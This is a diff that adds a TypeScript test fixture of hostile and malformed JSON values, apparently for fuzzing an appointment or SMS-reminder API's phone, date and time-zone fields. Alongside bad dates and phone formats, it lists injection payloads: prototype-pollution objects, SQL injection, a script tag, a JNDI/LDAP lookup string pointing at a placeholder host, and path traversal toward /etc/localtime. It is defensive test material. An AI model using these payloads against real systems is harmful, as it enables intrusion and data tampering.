@@ -1,0 +1,148 @@
+/** What a hostile or broken sender puts where a value belongs: JSON as it is written, which JavaScript may not be able to hold. */
+
+/** Stands in values that are words, to be looked for in answers and logs. No id has an exclamation mark. */
+export const CANARY = 'c4n4ry!';
+/** The last digits of the phone in values that are phones, likewise. */
+const CANARY_PHONE = '5550177';
+
+const nested = (open: string, depth: number, close: string) => open.repeat(depth) + close.repeat(depth);
+
+const anything = [
+  'null',
+  'true',
+  'false',
+  '0',
+  '-1',
+  '1.5',
+  '1e308',
+  '1e400',
+  '-1e-400',
+  '12345678901234567890123456789',
+  '[]',
+  '[[]]',
+  '[null]',
+  '["en"]',
+  nested('[', 2_000, ']'),
+  '{}',
+  '{"a":1}',
+  '{"__proto__":{"sms":true,"phone":"a"}}',
+  '{"constructor":{"prototype":{"a":1}}}',
+  '{"toString":null,"valueOf":null,"length":9e9}',
+  `${'{"a":'.repeat(1_000)}1${'}'.repeat(1_000)}`,
+  '""',
+  '" "',
+  '"NaN"',
+  '"null"',
+  '"undefined"',
+  '"Infinity"',
+  '"-0"',
+  '"true"',
+  '"0x10"',
+  '"__proto__"',
+  '"constructor"',
+  '"toString"',
+  '"hasOwnProperty"',
+  `"${CANARY}"`,
+  `"${CANARY.repeat(900)}"`,
+  `"${CANARY}\\u0000"`,
+  `"\\u001b[31m${CANARY}"`,
+  '"\\ud800"',
+  '"\\udc00\\ud800"',
+  `"\\u202e${CANARY}"`,
+  '"\\ufeff"',
+  '"\\ufffe"',
+  `"../../${CANARY}"`,
+  `"' OR '${CANARY}'='${CANARY}"`,
+  `"<script>${CANARY}</script>"`,
+  `"\${jndi:ldap://${CANARY}.example/a}"`,
+  `"demo#${CANARY}"`,
+  `"${'é'.repeat(150)}"`,
+  `"${'🙂'.repeat(120)}"`,
+] as const;
+
+const moments = [
+  '"2026-13-45T00:00:00Z"',
+  '"2026-02-30T00:00:00Z"',
+  '"9999-12-31T23:59:59Z"',
+  '"0001-01-01T00:00:00Z"',
+  '"-000001-01-01T00:00:00Z"',
+  '"+275760-09-13T00:00:00Z"',
+  '"1900-02-29T00:00:00Z"',
+  '"2026-11-24"',
+  '"2026-11"',
+  '"2026"',
+  '"2026-11-24T10:30:00"',
+  '"2026-11-24T24:00:01Z"',
+  '"2026-11-24T25:00:00Z"',
+  '"2026-11-24T10:30:60Z"',
+  '"2026-11-24T10:30:00+99:99"',
+  '"2026-11-24T10:30:00 -05:00"',
+  '"2026-11-24 10:30:00Z"',
+  '"2026-11-24T10:30:00.000000001-05:00"',
+  '"24.11.2026"',
+  '"Tue, 24 Nov 2026 15:30:00 GMT"',
+  '"now"',
+  '1795534200000',
+  '"1795534200000"',
+  '"٢٠٢٦-١١-٢٤T10:30:00Z"',
+] as const;
+
+const phones = [
+  `"+1305${CANARY_PHONE}"`,
+  `"305${CANARY_PHONE}"`,
+  `"(305) 555-0177"`,
+  `"+1 305 555 0177"`,
+  `"+1305${CANARY_PHONE} "`,
+  `"+1305${CANARY_PHONE}000000000"`,
+  '"+１３０５５５５０１７７"',
+  `"tel:+1305${CANARY_PHONE}"`,
+  `"+1305${CANARY_PHONE};ext=5"`,
+  `"+1305${CANARY_PHONE} x5"`,
+  `"+1305${CANARY_PHONE},+13055550178"`,
+  `"call 305${CANARY_PHONE} at night"`,
+  `"+1305555017"`,
+  '"+442079460177"',
+  `"+1305${CANARY_PHONE}\\u0000"`,
+  `"+1305\\u202e${CANARY_PHONE}"`,
+  `1305${CANARY_PHONE}`,
+  `["+1305${CANARY_PHONE}"]`,
+  `{"value":"+1305${CANARY_PHONE}"}`,
+  '"+0000000000"',
+  '"+"',
+] as const;
+
+const timeZones = [
+  '"US/Eastern"',
+  '"Etc/GMT+5"',
+  '"america/new_york"',
+  '"America/New_York\\u0000"',
+  '"America/NewYork"',
+  '"EST/EDT"',
+  '"+05:00"',
+  '"GMT+5"',
+  '"../../etc/localtime"',
+] as const;
+
+/** What is put where a value of a kind belongs. */
+export const hostileValues = {
+  any: anything,
+  moment: [...anything, ...moments],
+  phone: [...anything, ...phones],
+  timeZone: [...anything, ...timeZones],
+} satisfies Record<string, readonly [string, ...string[]]>;
+
+/** Names of fields that no one asked for. Some mean something to JavaScript. */
+export const strayNames = [
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  'then',
+  'clinicId',
+  'version',
+  '',
+  'Phone',
+  '\u0000',
+  'a/b~c',
+  'n'.repeat(2_000),
+] as const;
